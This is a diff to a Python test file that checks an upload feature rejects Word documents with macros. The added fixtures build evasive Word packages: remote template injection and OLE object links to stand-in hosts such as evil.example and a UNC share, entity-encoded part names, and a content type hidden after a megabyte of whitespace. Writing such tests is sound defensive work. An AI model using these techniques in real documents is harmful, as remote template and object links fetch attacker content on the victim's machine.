@@ -112,7 +112,26 @@ def old_document(*streams: str) -> bytes:
     return OLE_MAGIC + bytes(600) + b"".join(name.encode("utf-16-le") for name in streams)
 
 
+LINK = '<Relationships><Relationship Id="a>b" Type="{0}" Target="{1}" TargetMode="External"/></Relationships>'
+OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def linked(kind: str, target: str) -> bytes:
+    """Return a Word package that is linked with something outside of it."""
+    out = io.BytesIO(document("word/styles.xml", "text/xml"))
+    with zipfile.ZipFile(out, "a") as archive:
+        archive.writestr("word/_rels/settings.xml.rels", LINK.format(f"{OFFICE}/{kind}", target))
+    return out.getvalue()
+
+
+LONG = f"text/xml{' ' * 1024 * 1024}"
 MACROS = {
+    "by reference": document("word/picture.bin", "application/vnd.ms-office.vba&#80;roject"),
+    "far down": document("word/picture.bin", f'{LONG}"/><Override ContentType="{PROJECT}'),
+    "template of a site": linked("attachedTemplate", "https://evil.example/a.dotm"),
+    "template of a share": linked("attachedTemplate", "file://\\\\evil\\a.dotm"),
+    "object of a site": linked("oleObject", "mhtml:http://evil.example/a!x"),
+    "object by reference": linked("ole&#79;bject", "&#104;ttp://evil.example/a"),
     "usual": document("word/vbaProject.bin", PROJECT),
     "renamed": document("word/picture.bin", PROJECT),
     "in UTF-16": document("word/picture.bin", PROJECT, encoding="utf-16"),
@@ -134,6 +153,11 @@ def test_no_paper_with_macros_is_taken_whatever_they_are_called(as_role: As, wor
     assert added(as_role("jianxi"), case, "章程.doc", content) is None
     assert added(as_role("jianxi"), case, "章程.docx", document("word/styles.xml", "text/xml")) is not None
     assert added(as_role("jianxi"), case, "章程.doc", old_document("WordDocument")) is not None
+    for kind, target in (
+        ("hyperlink", "https://www.example.cn/"),
+        ("attachedTemplate", "file:///C:\\WPS\\Normal.dotm"),
+    ):
+        assert added(as_role("jianxi"), case, "章程.docx", linked(kind, target)) is not None
 
 
 @pytest.mark.parametrize(
